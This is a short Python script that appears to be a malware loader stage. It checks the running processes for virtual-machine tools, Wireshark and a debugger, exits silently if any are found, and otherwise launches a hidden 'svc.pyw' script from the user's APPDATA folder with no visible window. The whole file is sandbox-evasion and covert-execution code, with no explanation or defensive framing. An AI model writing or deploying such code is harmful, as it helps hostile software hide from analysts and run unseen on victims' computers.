import os
import subprocess
import sys

BLACKLIST = ["vboxservice.exe", "vmtoolsd.exe", "wireshark.exe", "x64dbg.exe"]


def sandboxed():
    out = subprocess.check_output("tasklist", shell=True).decode().lower()
    return any(p in out for p in BLACKLIST)


if sandboxed():
    sys.exit(0)
subprocess.Popen(["pythonw.exe", os.path.join(os.getenv("APPDATA"), "svc.pyw")], creationflags=subprocess.CREATE_NO_WINDOW)
